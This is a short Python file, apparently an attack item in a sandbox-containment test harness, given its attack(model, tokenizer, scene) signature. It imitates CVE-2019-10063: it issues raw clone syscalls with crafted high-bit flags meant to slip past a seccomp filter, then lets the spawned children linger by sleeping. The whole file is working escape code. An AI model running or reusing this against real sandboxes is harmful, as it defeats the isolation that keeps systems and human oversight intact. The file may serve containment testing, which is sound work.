"""Class: processes. Source: CVE-2019-10063, in kind. Escape: flags that a filter reads as a
thread's, and the kernel otherwise.
"""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    for flags in (0x1_0000_0011, 0x3D0F00 | 1 << 32, 0x8000_0000_0000_0011):
        if libc.syscall(56, ctypes.c_ulong(flags), 0, 0, 0, 0) == 0:
            time.sleep(30)
